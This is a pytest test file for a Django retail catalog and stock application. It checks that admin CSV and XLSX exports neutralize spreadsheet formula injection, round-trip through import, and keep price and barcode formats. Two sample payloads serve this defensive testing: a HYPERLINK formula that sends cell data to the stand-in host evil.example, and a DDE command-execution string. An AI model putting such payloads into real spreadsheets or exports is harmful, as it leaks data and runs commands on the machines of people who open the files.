import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from catalog.imports.services import catalog_import_preview
from catalog.resources import spreadsheet_safe
from stock.models import MovementKind
from stock.services import stock_move
from tests.factories import CategoryFactory, ProductFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
FIELDS = ["barcode", "name", "category", "supplier", "purchase_price", "selling_price", "unit"]


@pytest.fixture
def staff_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("boss", password="x"))
    return client


def export(client, admin_name: str, resource: str, fields: list[str], file_format: int, query: str = ""):
    """POST the export form as the admin's Export page does (format 0 = CSV, 1 = XLSX)."""
    data = {"format": file_format, "resource": 0, **{f"{resource}_{name}": "on" for name in fields}}
    response = client.post(reverse(f"admin:{admin_name}_export") + query, data)
    assert response.status_code == 200, response.content[:500]
    return response


def csv_rows(response) -> list[list[str]]:
    assert response.content.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens the Chinese correctly
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[tuple]:
    return list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))


@pytest.mark.parametrize("value", ["=1+1", "+86 20 1234", "-2+3", "@SUM(A1)", "\t=1"])
def test_cells_starting_like_a_formula_are_neutralized(value):
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe("可口可乐 = 好喝") == "可口可乐 = 好喝"


def test_product_csv_export_neutralizes_formulas_and_keeps_numbers(staff_client):
    ProductFactory(name=FORMULA, barcode="6901234567892", selling_price=Decimal("3.50"))
    [header, line] = csv_rows(export(staff_client, "catalog_product", "productresource", FIELDS, 0))
    assert header == FIELDS
    assert line[1] == "'" + FORMULA and line[0] == "6901234567892" and line[5] == "3.50"


def test_product_xlsx_export_has_no_formula_cells(staff_client):
    ProductFactory(name=FORMULA, category=CategoryFactory(name="+危险"))
    response = export(staff_client, "catalog_product", "productresource", FIELDS, 1)
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    [_header, values] = xlsx_rows(response)
    assert values[1] == "'" + FORMULA and values[2] == "'+危险"


def test_filtered_list_exports_what_is_shown(staff_client):
    drinks, snacks = CategoryFactory(name="饮料"), CategoryFactory(name="零食")
    ProductFactory(name="可乐", category=drinks)
    ProductFactory(name="薯片", category=snacks)
    query = f"?category__id__exact={drinks.pk}"
    rows = csv_rows(export(staff_client, "catalog_product", "productresource", FIELDS, 0, query))
    assert [line[1] for line in rows[1:]] == ["可乐"]
    searched = csv_rows(export(staff_client, "catalog_product", "productresource", FIELDS, 0, "?q=薯片"))
    assert [line[1] for line in searched[1:]] == ["薯片"]


def test_exported_products_can_be_imported_again_unchanged(staff_client):
    parent = CategoryFactory(name="饮料")
    ProductFactory(name="可乐", category=CategoryFactory(name="碳酸饮料", parent=parent), safety_stock=Decimal(6))
    ProductFactory(name="橙汁", category=parent)
    data = export(staff_client, "catalog_product", "productresource", FIELDS + ["safety_stock"], 0).content
    plan = catalog_import_preview(data=data, filename="export.csv")
    assert not plan.errors and not plan.has_changes and plan.unchanged == 2


def test_stock_level_export_in_both_formats(staff_client, floor, backroom):
    cola = ProductFactory(name="=cmd|' /C calc'!A0", safety_stock=Decimal(5))
    stock_move(product=cola, location=floor, quantity=Decimal(12), kind=MovementKind.RECEIPT)
    stock_move(product=cola, location=backroom, quantity=Decimal(30), kind=MovementKind.RECEIPT)
    fields = ["barcode", "name", "location", "on_hand", "safety_stock"]
    rows = csv_rows(
        export(staff_client, "stock_stocklevel", "stocklevelresource", fields, 0, f"?location__id__exact={floor.pk}")
    )
    assert rows == [fields, [cola.barcode, "'" + cola.name, floor.code, "12.000", "5.000"]]
    [_header, *values] = xlsx_rows(export(staff_client, "stock_stocklevel", "stocklevelresource", fields, 1))
    assert sorted((row[2], Decimal(str(row[3]))) for row in values) == [
        ("BACK", Decimal(30)),
        (floor.code, Decimal(12)),
    ]


def test_product_xlsx_export_shows_prices_with_their_decimals_and_barcodes_as_text(staff_client):
    ProductFactory(
        barcode="0036000291452", purchase_price=Decimal("9.5"), selling_price=Decimal("13.8"), name="进口饼干"
    )
    response = export(staff_client, "catalog_product", "productresource", FIELDS, 1)
    sheet = load_workbook(io.BytesIO(response.content)).active
    [header, row] = list(sheet.iter_rows())
    cells = {title.value: cell for title, cell in zip(header, row, strict=True)}
    assert (cells["selling_price"].value, cells["selling_price"].number_format) == (13.8, "0.00")
    assert (cells["purchase_price"].value, cells["purchase_price"].number_format) == (9.5, "0.0000")
    assert cells["barcode"].value == "0036000291452" and cells["barcode"].data_type == "s"


def test_export_page_labels_the_fields_in_chinese_and_keeps_the_column_names(staff_client):
    ProductFactory(name="可乐")
    staff_client.cookies["django_language"] = "zh-hans"
    page = staff_client.get(reverse("admin:catalog_product_export"))
    form = page.context["form"]
    labels = {name: str(form.fields[f"productresource_{name}"].label) for name in ["barcode", "purchase_price"]}
    assert labels == {"barcode": "条码", "purchase_price": "进价"}
    assert "英文名称" in page.content.decode() and "Name En" not in page.content.decode()
    [header, _line] = csv_rows(export(staff_client, "catalog_product", "productresource", FIELDS, 0))
    assert header == FIELDS  # the import reads these back


def test_stock_level_export_page_labels_the_fields_in_chinese(staff_client):
    staff_client.cookies["django_language"] = "zh-hans"
    form = staff_client.get(reverse("admin:stock_stocklevel_export")).context["form"]
    labels = {name: str(form.fields[f"stocklevelresource_{name}"].label) for name in ["on_hand", "expiry_date"]}
    assert labels == {"on_hand": "现有库存", "expiry_date": "保质期至"}
